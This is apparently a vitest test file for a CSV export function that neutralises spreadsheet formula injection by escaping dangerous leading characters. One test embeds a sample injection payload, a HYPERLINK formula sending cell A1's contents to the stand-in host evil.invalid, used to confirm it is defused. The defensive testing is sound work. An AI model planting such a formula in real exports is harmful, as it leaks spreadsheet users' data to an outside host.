import Papa from "papaparse";
import { expect, it } from "vitest";
import { toCsv } from "./index";

it("defuses spreadsheet formulas in every dangerous leading character and quotes as CSV must", () => {
  const csv = toCsv(null, [
    ["=1+1", "+cmd", "-2", "@SUM(A1)", "\tx", "\rx", "plain", 'say "hi", ok'],
  ]);
  const cells = [
    '"\'=1+1"',
    '"\'+cmd"',
    '"\'-2"',
    '"\'@SUM(A1)"',
    '"\'\tx"',
    '"\'\rx"',
    "plain",
    '"say ""hi"", ok"',
  ];
  expect(csv).toBe(cells.join(","));
});

it("defuses a formula whatever follows it, a newline included", () => {
  const payload = '=HYPERLINK("http://evil.invalid/?"&A1,\n"Acme Tools")';
  for (const lead of ["=", "+", "-", "@", "\t", "\r"].map((c) => c + payload.slice(1))) {
    const csv = toCsv(["company"], [[lead]]);
    const [, row] = Papa.parse<string[]>(csv).data;
    expect(row?.[0]).toBe(`'${lead}`);
  }
});

it("writes the header row, numbers and empty cells as they are", () => {
  expect(toCsv(["a", "b", "c"], [[1, null, -3]])).toBe("a,b,c\r\n1,,-3");
});
